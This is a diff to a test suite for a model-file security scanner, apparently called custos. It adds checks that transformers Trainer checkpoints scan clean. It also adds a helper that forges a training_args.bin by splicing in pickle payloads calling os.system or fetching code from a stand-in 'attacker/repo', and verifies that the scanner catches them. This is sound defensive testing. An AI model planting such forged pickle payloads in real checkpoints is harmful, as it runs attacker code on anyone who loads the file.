@@ -4,19 +4,26 @@ Every file is generated into a temporary folder by tests/modelfile/benign_corpus
 module: torch checkpoints (optimizers, schedulers, RNG states, whole modules in both formats,
 bf16/fp16/int8/quantized/sparse/nested tensors, TorchScript, torch.onnx.export), scikit-learn
 pipelines through joblib (plain, compressed) and pickle (protocols 2, 4, 5), transformers
-`save_pretrained` folders (each file on its own, and each folder as a directory), ONNX,
+`save_pretrained` folders (each file on its own, and each folder as a directory), the
+`checkpoint-N/` folders of a real two-step `transformers.Trainer` run (training_args.bin,
+optimizer.pt, scheduler.pt, rng_state.pth, trainer_state.json, model and tokenizer), ONNX,
 safetensors and GGUF.
 
 A false positive on these is what makes a gate useless, so torch and transformers are required
 under CI=true (like test_torch_real.py) and skipped loudly elsewhere. Canaries show a clean
 report means the content was read: the pickle-based files with a policy that denies their own
-names come out critical, the GGUF writer with an injected template comes out high.
+names come out critical, the GGUF writer with an injected template comes out high, and a
+training_args.bin forged to call a gadget next to its allow-listed classes is still caught.
 """
 
 from __future__ import annotations
 
+import io
 import os
 import pickle
+import pickletools
+import shutil
+import zipfile
 from pathlib import Path
 from types import ModuleType
 
@@ -25,10 +32,11 @@ import pytest
 from custos.checks.model import Severity
 from custos.modelfile.detect import pickle_verdict
 from custos.modelfile.dispatch import scan_file, scan_paths
-from custos.modelfile.policy import Policy
+from custos.modelfile.policy import RULE_UNKNOWN, Policy, builtin_knowledge
 from custos.modelfile.report import FileReport
 from tests.modelfile import benign_corpus
 from tests.modelfile.conftest import worst
+from tests.modelfile.picklegen import bu, call, glob
 
 REQUIRED = os.environ.get("CI", "").lower() == "true" or bool(
     os.environ.get("CUSTOS_TEST_REQUIRE_TORCH")
@@ -176,6 +184,164 @@ def test_save_pretrained_folders_scanned_as_directories_are_clean(
 def test_transformers_canary(transformers_files: dict[str, Path]) -> None:
     for label in ("bert/pytorch_model.bin", "gpt2/pytorch_model-legacy.bin"):
         assert denied(transformers_files[label], "torch") == Severity.critical
+
+
+# --- transformers.Trainer checkpoints ----------------------------------------------------
+
+# What Trainer._save_checkpoint writes into checkpoint-N/ (the tokenizer's files too).
+TRAINER: dict[str, str | None] = {
+    "training_args.bin": "pytorch-zip",  # TrainingArguments, its enums, AcceleratorConfig, ...
+    "optimizer.pt": "pytorch-zip",
+    "scheduler.pt": "pytorch-zip",
+    "rng_state.pth": "pytorch-zip",  # python, numpy and torch RNG states
+    "model.safetensors": "safetensors",
+    "config.json": None,
+    "trainer_state.json": None,
+    "tokenizer.json": None,
+    "tokenizer_config.json": None,
+}
+# The built-in allow-list's only transformers/accelerate names (data/policy.yaml says why each
+# is plain data); the two training_args.bin files of the corpus import every one of them.
+TRAINER_ALLOWED = {
+    "transformers.training_args.TrainingArguments",
+    "transformers.training_args.OptimizerNames",
+    "transformers.training_args_seq2seq.Seq2SeqTrainingArguments",
+    "transformers.trainer_utils.IntervalStrategy",
+    "transformers.trainer_utils.SaveStrategy",
+    "transformers.trainer_utils.HubStrategy",
+    "transformers.trainer_utils.SchedulerType",
+    "transformers.trainer_utils.FSDPOption",
+    "transformers.debug_utils.DebugOption",
+    "transformers.trainer_pt_utils.AcceleratorConfig",
+    "accelerate.state.PartialState",
+    "accelerate.utils.dataclasses.DistributedType",
+}
+ARGS = "checkpoint-2/training_args.bin"
+
+
+@pytest.fixture(scope="module")
+def trainer_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
+    need("torch", "pip install 'custos[torch]'")
+    need("transformers", "pip install 'custos[dev]'")
+    need("accelerate", "pip install 'custos[dev]'")
+    return benign_corpus.in_child("trainer", tmp_path_factory.mktemp("trainer"))
+
+
+@pytest.mark.parametrize("name", sorted(TRAINER))
+def test_trainer_checkpoint_file_is_clean(trainer_files: dict[str, Path], name: str) -> None:
+    check_clean(scan_file(trainer_files[f"checkpoint-2/{name}"], Policy.default()), TRAINER[name])
+
+
+def test_every_file_trainer_writes_is_clean(trainer_files: dict[str, Path]) -> None:
+    # Both checkpoints, whatever else this transformers version writes, and Seq2SeqTrainer's
+    # training_args.bin (debug options, a transformers-4-style fsdp list).
+    assert {f"checkpoint-{n}/{name}" for n in (1, 2) for name in TRAINER} <= set(trainer_files)
+    for label, path in trainer_files.items():
+        report = scan_file(path, Policy.default())
+        assert report.error is None, (label, report.error)
+        assert worst(report) <= Severity.low, (label, report.findings)
+
+
+def test_trainer_output_folder_scanned_as_directory_is_clean(
+    trainer_files: dict[str, Path],
+) -> None:
+    run = trainer_files[ARGS].parent.parent  # output_dir, holding checkpoint-1/ and -2/
+    reports = scan_paths([run], Policy.default())
+    assert {r.path.relative_to(run).as_posix() for r in reports} >= {
+        label for label in trainer_files if label.startswith("checkpoint-")
+    }
+    assert all(worst(r) <= Severity.low for r in reports), [(r.path, r.findings) for r in reports]
+
+
+def pickle_globals(path: Path) -> set[str]:
+    """The names a torch archive's data.pkl imports (read with pickletools, never loaded)."""
+    with zipfile.ZipFile(path) as archive:
+        data = archive.read(next(n for n in archive.namelist() if n.endswith("/data.pkl")))
+    return {
+        str(arg).replace(" ", ".") for op, arg, _ in pickletools.genops(data) if op.name == "GLOBAL"
+    }
+
+
+def test_trainer_allow_list_is_exactly_the_classes_training_args_use(
+    trainer_files: dict[str, Path],
+) -> None:
+    listed = {n for n in builtin_knowledge().allow if n.startswith(("transformers", "accelerate"))}
+    assert listed == TRAINER_ALLOWED
+    seen = pickle_globals(trainer_files[ARGS]) | pickle_globals(
+        trainer_files["seq2seq/training_args.bin"]
+    )
+    assert {n for n in seen if n.startswith(("transformers.", "accelerate."))} == TRAINER_ALLOWED
+
+
+@pytest.mark.parametrize("prefix", ["transformers", "accelerate"])
+def test_trainer_canary(trainer_files: dict[str, Path], prefix: str) -> None:
+    for label in (ARGS, "seq2seq/training_args.bin"):
+        assert denied(trainer_files[label], prefix) == Severity.critical
+
+
+def forge(real: Path, out: Path, key: str, value: bytes) -> Path:
+    """`real` (a torch archive of TrainingArguments) with one more attribute, `key` = `value`,
+    in the state dict BUILD restores: the real allow-listed classes all around the payload."""
+    with zipfile.ZipFile(real) as src, zipfile.ZipFile(out, "w") as dst:
+        for info in src.infolist():
+            data = src.read(info)
+            if info.filename.endswith("/data.pkl"):
+                assert data.endswith(b"ub."), data[-8:]  # SETITEMS, BUILD, STOP
+                data = data[:-3] + bu(key) + value + b"ub."
+                pickletools.dis(data, out=io.StringIO())  # still a well-formed pickle
+            dst.writestr(info, data)
+    return out
+
+
+FORGED = {
+    "os.system": call(glob("os", "system"), bu("echo pwned")),
+    "cached_file": call(
+        glob("transformers.utils.hub", "cached_file"), bu("attacker/repo"), bu("payload.py")
+    ),
+    "cached_file-reexport": call(
+        glob("transformers.utils", "cached_file"), bu("attacker/repo"), bu("payload.py")
+    ),
+    "get_class_from_dynamic_module": call(
+        glob("transformers.dynamic_module_utils", "get_class_from_dynamic_module"),
+        bu("payload.Evil"),
+        bu("attacker/repo"),
+    ),
+    "pipeline": call(glob("transformers", "pipeline"), bu("text-generation"), bu("attacker/m")),
+}
+
+
+@pytest.mark.parametrize("case", sorted(FORGED))
+def test_forged_training_args_is_caught(
+    trainer_files: dict[str, Path], tmp_path: Path, case: str
+) -> None:
+    path = forge(trainer_files[ARGS], tmp_path / "training_args.bin", "hub_model_id", FORGED[case])
+    report = scan_file(path, Policy.default())
+    assert report.format == "pytorch-zip"
+    name = case.removesuffix("-reexport").rsplit(".", 1)[-1]
+    caught = [f for f in report.findings if f.severity >= Severity.high and name in f.message]
+    assert caught, report.findings
+
+
+def test_unlisted_transformers_name_in_training_args_is_not_allowed(
+    trainer_files: dict[str, Path], tmp_path: Path
+) -> None:
+    # No transformers.* wildcard: a harmless-looking name off the list is still reported.
+    payload = call(glob("transformers.trainer_utils", "get_last_checkpoint"), bu("/"))
+    path = forge(trainer_files[ARGS], tmp_path / "training_args.bin", "output_dir", payload)
+    report = scan_file(path, Policy.default())
+    unknown = [f for f in report.findings if f.rule == RULE_UNKNOWN]
+    assert [f.severity for f in unknown] == [Severity.medium], report.findings
+    assert "get_last_checkpoint" in unknown[0].message
+
+
+def test_forged_training_args_in_a_checkpoint_folder_is_caught(
+    trainer_files: dict[str, Path], tmp_path: Path
+) -> None:
+    folder = shutil.copytree(trainer_files[ARGS].parent, tmp_path / "checkpoint-2")
+    forge(trainer_files[ARGS], folder / "training_args.bin", "hub_model_id", FORGED["os.system"])
+    reports = {r.path.name: r for r in scan_paths([folder], Policy.default())}
+    assert worst(reports["training_args.bin"]) == Severity.critical
+    assert all(worst(r) <= Severity.low for n, r in reports.items() if n != "training_args.bin")
 
 
 # --- scikit-learn ------------------------------------------------------------------------
